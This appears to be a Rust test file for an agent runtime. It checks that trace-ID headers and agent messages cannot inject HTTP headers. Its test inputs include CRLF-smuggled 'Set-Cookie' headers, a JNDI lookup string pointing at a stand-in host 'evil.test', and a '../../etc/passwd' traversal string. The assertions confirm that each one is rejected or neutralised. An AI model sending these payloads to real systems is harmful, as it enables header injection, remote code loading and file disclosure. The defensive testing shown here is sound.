//! Header injection through trace IDs and messages.

use agent_runtime::prelude::*;

use test_support::wire::{Connection, PAYLOAD};

#[editor_agent]
async fn shows_its_trace(trace: TraceId) -> String {
    trace.to_string()
}

/// Responds with every character that could end a line.
#[editor_agent]
async fn shows_lines(frame: Frame) -> Result<AgentResponse> {
    let text = "done\r\nSet-Cookie: a=b\r\n\r\n<html>\u{2028}\u{85}\0\u{1b}[31m";
    ensure!(frame.0 > 0, "{text}");
    Ok(AgentResponse::message(text))
}

#[tokio::test]
async fn replaces_malformed_trace_ids() {
    let server = Server::new().agents(agents![shows_its_trace]).port(0).start().await.unwrap();
    for value in [
        &b"abc%0d%0aSet-Cookie: a=b/1"[..],
        b"abc\tdef/1",
        b"abc\xff/1",
        b"abc\xc3\xa9/1",
        b"abc,def/1",
        b"\"abc\"/1",
        b"abc=def;o=1",
        b"${jndi:ldap://evil.test}/1",
        b"../../etc/passwd/1",
        &b"a".repeat(40_000),
    ] {
        for name in [&b"X-Cloud-Trace-Context"[..], b"traceparent"] {
            let mut connection = Connection::open(server.address()).await;
            let length = PAYLOAD.len();
            let rest = format!("Content-Type: application/json\r\nContent-Length: {length}\r\n\r\n{PAYLOAD}");
            let head = b"POST /shows-its-trace HTTP/1.1\r\nHost: a\r\n";
            connection.write([&head[..], name, b": ", value, b"\r\n", rest.as_bytes()].concat()).await;
            let answer = connection.answer().await.unwrap();
            let trace = answer.message();
            assert!(trace.len() == 32 && trace.bytes().all(|byte| byte.is_ascii_hexdigit()), "{trace}");
            assert_eq!(answer.header("x-cloud-trace-context"), Some(format!("{trace}/1;o=1").as_str()));
            assert_eq!(answer.header("set-cookie"), None);
        }
    }
    // A value with a line break is not a valid header.
    for value in ["abc\rSet-Cookie: a=b/1", "abc\n Set-Cookie: a=b/1", "abc\0/1"] {
        let mut connection = Connection::open(server.address()).await;
        connection.post("/shows-its-trace", &[("X-Cloud-Trace-Context", value)], PAYLOAD).await;
        let answer = connection.answer().await.unwrap();
        assert_eq!((answer.status, answer.header("set-cookie")), (400, None), "{value:?}");
    }
    server.stop().await;
}

#[tokio::test]
async fn line_breaks_stay_in_message() {
    let server = Server::new().agents(agents![shows_lines]).port(0).start().await.unwrap();
    for frame in [0, 1] {
        let mut connection = Connection::open(server.address()).await;
        let body = PAYLOAD.replace("\"frame\": 0", &format!("\"frame\": {frame}"));
        connection.post("/shows-lines", &[], &body).await;
        let answer = connection.answer().await.unwrap();
        assert_eq!(answer.header("set-cookie"), None);
        assert_eq!(answer.header("content-type"), Some("application/json"));
        assert!(answer.message().starts_with("done\r\nSet-Cookie"), "{}", answer.body);
        assert!(!answer.body.contains(['\r', '\n', '\0', '\u{1b}']), "{:?}", answer.body);
    }
    server.stop().await;
}
